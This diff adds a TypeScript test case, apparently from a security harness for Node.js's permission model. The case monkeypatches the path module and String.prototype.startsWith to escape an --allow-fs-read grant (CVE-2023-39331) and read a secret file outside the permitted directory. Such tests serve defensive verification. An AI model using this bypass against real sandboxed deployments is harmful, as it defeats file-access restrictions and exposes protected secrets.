@@ -1,0 +1,16 @@
+// SPDX-License-Identifier: Apache-2.0
+import { attack } from "../harness/attack.ts";
+export const hostile = attack({
+  claim: "A patched path module does not decide what is granted (CVE-2023-39331)",
+  proof: "secret",
+  grants: (site) => [`--allow-fs-read=${site.granted}`],
+  program: (cell) => {
+    const path = cell.node("node:path");
+    const same = (given: string): string => given;
+    path.resolve = same;
+    path.normalize = same;
+    path.toNamespacedPath = same;
+    String.prototype.startsWith = () => true;
+    return cell.loot(cell.node("node:fs").readFileSync(Buffer.from(`${cell.granted}/../outside/secret.txt`)));
+  },
+});
